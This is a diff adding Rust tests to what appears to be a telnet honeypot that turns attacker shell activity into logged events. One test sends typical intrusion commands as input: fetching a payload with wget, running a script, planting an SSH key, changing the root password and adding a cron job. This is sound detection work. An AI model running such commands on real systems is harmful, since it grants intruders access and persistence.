@@ -180,3 +180,86 @@ async fn other_protocols_are_named_and_are_no_logins() {
         assert_eq!((text(&events[1], "protocol"), request(&events[1])), (protocol, bytes));
     }
 }
+
+#[tokio::test]
+async fn what_is_done_in_the_shell_is_an_event_each() {
+    let mut zone = Zone::start(&config()).await;
+    let mut client = connect(zone.telnet).await;
+    send(&mut client, b"root\nroot\n").await;
+    read_until(&mut client, b"~ # ").await;
+    let lines: [&[u8]; 6] = [
+        b"cd /tmp; wget http://127.0.0.1:8/x\n",
+        b"echo '#!/bin/sh' > a; chmod 777 a; ./a now\n",
+        b"mkdir -p /root/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2E= me' >> /root/.ssh/authorized_keys\n",
+        b"echo root:n3w | chpasswd\n",
+        b"echo '* * * * * /tmp/a' | crontab -\n",
+        b"exit\n",
+    ];
+    send(&mut client, &lines.concat()).await;
+    let shown = String::from_utf8(read_all(&mut client).await).unwrap();
+    assert!(shown.contains("Connection refused\r\n/tmp # "), "{shown}");
+    drop(client);
+    let events = zone.session().await;
+    let told: Vec<&Event> =
+        events.iter().filter(|event| event.kind.as_str() != "command.entered").collect();
+    let expected = [
+        "connection.opened",
+        "auth.attempted",
+        "download.attempted",
+        "payload.executed",
+        "payload.captured",
+        "key.planted",
+        "password.changed",
+        "startup.changed",
+        "payload.captured",
+        "payload.captured",
+        "session.closed",
+    ];
+    assert_eq!(told.iter().map(|event| event.kind.as_str()).collect::<Vec<_>>(), expected);
+    assert_eq!(request(told[2]), b"http://127.0.0.1:8/x");
+    assert_eq!((text(told[2], "tool"), text(told[2], "outcome")), (&b"wget"[..], &b"refused"[..]));
+    assert_eq!(text(told[3], "arguments"), b"now");
+    assert_eq!(text(told[4], "contents"), b"#!/bin/sh\n");
+    assert_eq!(told[3].payload, told[4].payload);
+    assert_eq!(told[4].payload_name.as_ref().unwrap().as_bytes(), b"/tmp/a");
+    assert!(text(told[5], "fingerprint").starts_with(b"SHA256:"));
+    assert_eq!(told[6].credentials.as_ref().unwrap().password.as_ref().unwrap().as_bytes(), b"n3w");
+    assert_eq!(request(told[7]), b"* * * * * /tmp/a");
+    for event in &events {
+        assert_eq!(event.validate(), Ok(()));
+    }
+}
+
+#[tokio::test]
+async fn whoever_comes_back_finds_what_was_left() {
+    let mut zone = Zone::start(&config()).await;
+    for (line, shown) in
+        [(&b"echo mine > /tmp/left\n"[..], &b"/tmp/left"[..]), (b"cat /tmp/left\n", b"\nmine\r\n")]
+    {
+        let mut client = connect(zone.telnet).await;
+        send(&mut client, b"root\nroot\n").await;
+        read_until(&mut client, b"~ # ").await;
+        send(&mut client, line).await;
+        read_until(&mut client, shown).await;
+        drop(client);
+        zone.session().await;
+    }
+}
+
+#[tokio::test]
+async fn a_line_is_edited_before_it_is_run() {
+    let mut zone = Zone::start(&config()).await;
+    let mut client = connect(zone.telnet).await;
+    send(&mut client, b"root\nroot\n").await;
+    read_until(&mut client, b"~ # ").await;
+    // Left twice and an insertion; then the line again from the history.
+    send(&mut client, b"echo ac\x1b[Db\r\n\x1b[A\r\n").await;
+    read_until(&mut client, b"\nabc\r\n~ # ").await;
+    send(&mut client, b"cat /etc/hostn\t\r\n").await;
+    read_until(&mut client, b"\ncam1\r\n").await;
+    drop(client);
+    let events = zone.session().await;
+    assert_eq!(request(&events[2]), b"echo abc");
+    assert_eq!(request(&events[3]), b"echo abc");
+    assert_eq!(request(&events[4]), b"cat /etc/hostname ");
+}
